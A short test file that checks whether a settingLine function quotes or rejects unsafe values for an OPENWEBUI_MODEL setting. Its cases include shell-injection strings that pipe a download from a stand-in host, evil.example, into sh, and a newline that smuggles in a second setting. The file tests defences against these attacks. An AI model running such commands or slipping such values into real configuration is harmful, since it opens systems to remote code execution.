import { expect, it } from 'vitest';
import { settingLine } from './setting-line.ts';

it.each([
  ['gpt-5-mini', ['OPENWEBUI_MODEL=gpt-5-mini']],
  ['meta/llama3.2:latest', ['OPENWEBUI_MODEL=meta/llama3.2:latest']],
  ['Our model', ["OPENWEBUI_MODEL='Our model'"]],
  ['$(curl evil.example|sh)', ["OPENWEBUI_MODEL='$(curl evil.example|sh)'"]],
  ["x';curl evil.example|sh;'", []],
  ['x\nGUICHET_ALLOWED_ORIGINS=https://evil.example', []],
  ['', []],
])('%j can be copied without anything being run: %j', (value, line) => {
  expect(settingLine('OPENWEBUI_MODEL', value)).toEqual(line);
});
